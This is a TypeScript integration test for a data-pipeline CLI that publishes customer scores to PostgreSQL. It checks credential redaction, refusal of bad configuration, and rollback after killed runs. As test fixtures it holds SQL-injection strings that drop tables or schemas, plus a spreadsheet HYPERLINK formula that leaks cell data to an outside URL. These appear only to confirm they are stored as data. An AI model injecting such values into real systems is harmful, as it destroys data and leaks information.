import { spawn } from 'node:child_process';
import { existsSync, readFileSync, readdirSync, readlinkSync, writeFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import pg from 'pg';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { packageRoot } from '../../pipeline/db/sqlFile.js';
import { generateDemoData } from '../../pipeline/demo/generateDemoData.js';
import { ADMIN_PASSWORD, startPostgres, type TestPostgres } from '../helpers/postgres.js';
import { withTempDir, writeFile } from '../helpers/withDb.js';

const BIN = join(packageRoot, 'dist', 'pipeline', 'bin.js');
const PASSWORD = 'Wr1ter:pa$$/word';
let server: TestPostgres;
let url: string;

// Customer ids a shop's sign-up form lets anyone choose: each must arrive in PostgreSQL as data.
const HOSTILE = [`x'); DROP TABLE fidelio.runs; --`, `"; DROP SCHEMA fidelio CASCADE; --`, `=HYPERLINK("http://x/?leak="&A1,"click")`];
const csvField = (v: string) => (/[",\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v);

beforeAll(async () => {
  server = await startPostgres();
  server.psql([`CREATE ROLE fidelio_writer LOGIN PASSWORD '${PASSWORD.replaceAll("'", "''")}'`, 'CREATE DATABASE analytics', 'GRANT CONNECT, CREATE ON DATABASE analytics TO fidelio_writer']);
  url = `postgres://fidelio_writer:${encodeURIComponent(PASSWORD)}@127.0.0.1:${server.port}/analytics`;
}, 60_000);
afterAll(() => server?.stop());

interface Outcome {
  code: number | null;
  signal: NodeJS.Signals | null;
  stderr: string;
  stdout: string;
}

/** The built CLI in a child process with FIDELIO_POSTGRES_URL set; `onStart` gets the child (to kill it). */
function fidelio(args: string[], env: Record<string, string>, onStart?: (child: ReturnType<typeof spawn>) => void): Promise<Outcome> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [BIN, ...args], { stdio: ['ignore', 'pipe', 'pipe'], env: { ...process.env, ...env } });
    let stderr = '';
    let stdout = '';
    child.stdout!.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('close', (code, signal) => resolve({ code, signal, stderr, stdout }));
    onStart?.(child);
  });
}

async function admin(): Promise<pg.Client> {
  const c = new pg.Client({ connectionString: server.url('fidelio_admin', ADMIN_PASSWORD, 'analytics') });
  await c.connect();
  return c;
}

/** What the schema holds now: enough to tell two publications apart and to see half of one. */
async function snapshot(c: pg.Client) {
  return (await c.query(`SELECT
    (SELECT count(*) FROM fidelio.customer_scores) AS customers,
    (SELECT md5(string_agg(t::text, '|' ORDER BY customer_id)) FROM fidelio.customer_scores t) AS scores,
    (SELECT md5(string_agg(t::text, '|' ORDER BY month)) FROM fidelio.kpis_monthly t) AS kpis,
    (SELECT string_agg(run_id, ',' ORDER BY run_id) FROM fidelio.runs) AS runs,
    (SELECT count(*) FROM fidelio.customer_scores_history) AS history,
    (SELECT count(*) FROM fidelio.model_metrics) AS figures`)).rows[0];
}

test('published by the CLI with hostile ids as data; a wrong password, an unreachable server and a run killed inside the database publication each leave the previous publication whole', async () => {
  await withTempDir(async (dir) => {
    const files = generateDemoData(join(dir, 'in'), { customers: 500, seed: 7, months: 24 });
    for (const file of [files.orders, files.customers, files.tickets, files.referrals]) {
      let text = readFileSync(file, 'utf8');
      HOSTILE.forEach((id, i) => {
        text = text.replace(new RegExp(`(^|,)C00${i + 1}(?=,|$)`, 'gm'), `$1${csvField(id)}`);
      });
      writeFileSync(file, text);
    }
    const config = writeFile(dir, 'config.json', JSON.stringify({ neural: false, scoring: { intervalDraws: 5 } }));
    const args = ['run', '--orders', files.orders, '--customers', files.customers, '--tickets', files.tickets, '--referrals', files.referrals,
      '--db', join(dir, 'f.duckdb'), '--out', join(dir, 'out'), '--models', join(dir, 'models'), '--config', config];
    const env = { FIDELIO_POSTGRES_URL: url };

    const first = await fidelio(args, env);
    expect(first.stderr).not.toContain(PASSWORD);
    expect(first.code, first.stderr.slice(-2000)).toBe(0);
    expect(first.stderr).toContain(`"target":"postgres://fidelio_writer@127.0.0.1:${server.port}/analytics"`);
    const c = await admin();
    try {
      // The hostile ids are rows, found by value; the schema and its tables are all there.
      for (const id of HOSTILE) {
        expect((await c.query('SELECT count(*)::int AS n FROM fidelio.customer_scores WHERE customer_id = $1', [id])).rows[0].n, id).toBe(1);
      }
      const before = await snapshot(c);
      expect(Number(before.customers)).toBe(500);
      const firstRun = JSON.parse(first.stdout).run_id as string;
      expect(before.runs).toBe(firstRun);
      const manifest = readFileSync(join(dir, 'out', 'run_manifest.json'), 'utf8');
      expect(manifest).not.toContain(PASSWORD);
      expect(JSON.parse(manifest).postgres).toEqual({ target: `postgres://fidelio_writer@127.0.0.1:${server.port}/analytics`, schema: 'fidelio' });

      // A wrong password: exit 1 before anything runs, the reason in words, the password nowhere.
      const wrong = await fidelio(args, { FIDELIO_POSTGRES_URL: url.replace(encodeURIComponent(PASSWORD), 'guessed-pw') });
      expect(wrong.code).toBe(1);
      expect(wrong.stderr).toMatch(/refused the login: password authentication failed for user \\"fidelio_writer\\"/);
      expect(wrong.stderr).not.toContain('guessed-pw');
      // An unreachable server: the same.
      const away = await fidelio(args, { FIDELIO_POSTGRES_URL: `postgres://fidelio_writer:${encodeURIComponent(PASSWORD)}@127.0.0.1:1/analytics` });
      expect(away.code).toBe(1);
      expect(away.stderr).toContain('cannot reach PostgreSQL at postgres://fidelio_writer@127.0.0.1:1/analytics (ECONNREFUSED)');
      expect(away.stderr).not.toContain(PASSWORD);
      expect(away.stderr).not.toContain(encodeURIComponent(PASSWORD));
      // A schema name that is not a plain name is refused with the configuration (exit 2).
      const badSchema = writeFile(dir, 'bad.json', JSON.stringify({ neural: false, publish: { postgres: { schema: 'x"; DROP SCHEMA fidelio; --' } } }));
      const refused = await fidelio([...args.slice(0, -1), badSchema], env);
      expect(refused.code).toBe(2);
      expect(refused.stderr).toContain('publish.postgres.schema: a lower-case PostgreSQL name such as fidelio');
      expect(await snapshot(c)).toEqual(before);
      expect(basename(readlinkSync(join(dir, 'out')))).toBe(firstRun);

      // A run killed inside the database publication: a lock held on `runs` (whose row the transaction writes last)
      // stops it there, after every other table was loaded in its transaction; it is killed while it waits.
      const blocker = await admin();
      await blocker.query('BEGIN');
      await blocker.query('LOCK TABLE fidelio.runs IN EXCLUSIVE MODE');
      let seenWhileLoaded: unknown;
      const killed = await fidelio(args, env, (child) => {
        const poll = setInterval(async () => {
          const waiting = await c.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = 'fidelio' AND wait_event_type = 'Lock'`);
          if (waiting.rows[0].n === 1) {
            clearInterval(poll);
            seenWhileLoaded = await snapshot(c);
            child.kill('SIGKILL');
          }
        }, 100);
        child.on('close', () => clearInterval(poll));
      });
      expect(killed.signal).toBe('SIGKILL');
      expect(seenWhileLoaded).toEqual(before);
      await blocker.query('ROLLBACK');
      await blocker.end();
      // The server rolls the killed run's transaction back once its connection is gone.
      for (let i = 0; i < 100; i++) {
        const left = await c.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = 'fidelio'`);
        if (left.rows[0].n === 0) break;
        await new Promise((r) => setTimeout(r, 100));
      }
      expect(await snapshot(c)).toEqual(before);
      expect(basename(readlinkSync(join(dir, 'out')))).toBe(firstRun);
      // Killed while PostgreSQL loaded its rows: its release folder is still a .partial one.
      expect(readdirSync(join(dir, '.out.releases')).some((n) => n.endsWith('.partial'))).toBe(true);

      // The next run publishes, and removes what the killed one left.
      const next = await fidelio(args, env);
      expect(next.code, next.stderr.slice(-2000)).toBe(0);
      const after = await snapshot(c);
      expect(after.runs).toBe([firstRun, JSON.parse(next.stdout).run_id].sort().join(','));
      expect(Number(after.history)).toBe(1000);
      expect(existsSync(join(dir, '.out.releases')) && readdirSync(join(dir, '.out.releases')).some((n) => n.endsWith('.partial'))).toBe(false);
    } finally {
      await c.end();
    }
  });
});
